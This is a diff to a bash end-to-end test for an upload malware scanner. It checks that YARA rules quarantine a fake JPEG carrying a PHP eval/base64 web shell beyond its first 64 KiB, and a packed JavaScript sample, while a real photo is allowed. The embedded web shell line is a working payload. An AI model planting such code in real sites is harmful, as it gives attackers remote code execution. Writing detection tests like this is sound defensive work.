@@ -106,3 +106,30 @@ for n in "${all_bad[@]}"; do
 done
 [[ -f $UP/real.jpg && -f $UP/a.jpg ]] || fail "a real photo was taken away"
 assert_eq "${#all_bad[@]}" "$(quarantined)" "quarantined entries: exactly the scripts"
+
+step "12b: what the name and the first 64 KiB let through, YARA does not: a shell past 64 KiB of a photo, a packed script"
+quarantined_before=$(quarantined)
+as_www python3 -c '
+import random, sys
+d = sys.argv[1]
+r = random.Random(7)
+body = bytes(r.getrandbits(8) for _ in range(70000)).replace(b"<", b"x")
+open(f"{d}/deep.jpg", "wb").write(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + body +
+    b"<?php eval(base64_decode($_POST[\"x\"])); ?>\xff\xd9")
+open(f"{d}/lib.js", "w").write(open(sys.argv[2]).read())
+' "$UP" "$(dirname "$0")/../../core/scan/testdata/match/packer.js"
+photo "$UP/real2.jpg"
+yara_event() {  # NAME: its file-quarantined event
+  events 'e["event"]["action"] == "file-quarantined" and e["file"]["path"].endswith("/uploads/2025/01/'"$1"'")'
+}
+both_gone() { [[ -n $(yara_event deep.jpg) && -n $(yara_event lib.js) ]]; }
+WAIT_EXPLAIN='events "e[\"event\"][\"action\"] in (\"file-allowed\", \"file-quarantined\")" | tail -n 5' \
+  wait_for "the two quarantined" both_gone
+assert_contains "$(yara_event deep.jpg)" '"rules": ["mamori_php_eval_decoded"' "deep.jpg's YARA rule"
+assert_contains "$(yara_event deep.jpg)" '"reason": "yara"' "why deep.jpg went"
+assert_contains "$(yara_event lib.js)" '"rules": ["mamori_js_eval_decoded"' "lib.js's YARA rule"
+real2_allowed() { events 'e["event"]["action"] == "file-allowed"' | grep 'uploads/2025/01/real2.jpg' >/dev/null; }
+wait_for "real2.jpg allowed" real2_allowed
+[[ ! -e $UP/deep.jpg && ! -e $UP/lib.js && -f $UP/real2.jpg ]] || fail "the wrong files were taken: $(ls "$UP")"
+assert_eq $((quarantined_before + 2)) "$(quarantined)" "quarantined entries: exactly the two"
+
